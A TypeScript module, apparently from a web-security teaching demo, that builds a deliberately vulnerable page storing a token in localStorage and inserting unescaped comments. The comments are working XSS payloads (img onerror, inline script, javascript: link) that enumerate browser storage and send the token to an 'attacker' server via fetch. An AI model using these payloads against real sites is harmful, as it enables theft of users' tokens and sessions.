import { randomId } from '../../../tokens/random-id.ts';

/**
 * As many introductions have it: the token where scripts can read it, no policy, and a comment that is put into the page as it was typed. What its
 * script finds, and what it tried, is told to the page around it.
 */
const comments: Readonly<Record<string, string>> = {
  'read-storage': commentThatRuns(`
    const found = await readPlaces();
    report(found.flatMap(([place, names]) => names.map((name) => place + ': ' + name)), found.map(([place, names]) => 'reads ' + place + ': ' + (names.join(', ') || 'empty')));
  `),
  'injected-script': `<script>window.ran = ['an inline script']</script>${commentThatRuns(`
    ran.push('an event attribute');
    const link = Object.assign(document.createElement('a'), { href: "javascript:void ran.push('a javascript: address')" });
    document.body.append(link);
    link.click();
    await new Promise((resolve) => setTimeout(resolve));
    const token = 'localStorage: token ' + localStorage.getItem('token');
    await fetch(new URLSearchParams(location.search).get('attacker') + '/attacker/empty?' + encodeURIComponent(token), { mode: 'no-cors' });
    ran.push('something sent away to the attacker’s server');
    report([...ran, token], ran.map((way) => 'tries ' + way + ': it works'));
  `)}`,
  framing: commentThatRuns(`report(['the twin, signed in'], [])`),
};

function commentThatRuns(code: string): string {
  return `<img src="data:," onerror="(async () => { ${code.replaceAll('"', '&quot;')} })()">`;
}

export function weakPage(twin: string, token = randomId()): string {
  return `<!doctype html><title>The twin</title>
<script>
localStorage.setItem('token', '${token}');
async function readPlaces() {
  const places = {
    'document.cookie': () => document.cookie.split('; ').filter(Boolean),
    localStorage: () => Object.entries(localStorage).map((entry) => entry.join(' ')),
    sessionStorage: () => Object.keys(sessionStorage),
    indexedDB: async () => (await indexedDB.databases()).map(({ name }) => name),
    caches: () => caches.keys(),
  };
  return Promise.all(Object.entries(places).map(async ([place, read]) => [place, await Promise.resolve().then(read).catch(() => [])]));
}
function report(heard, tried) {
  localStorage.removeItem('token');
  parent.postMessage({ heard, remarks: tried.map((says) => ({ by: 'script', says })) }, '*');
}
</script>
<p>A comment that somebody left: ${comments[twin] ?? ''}</p>`;
}
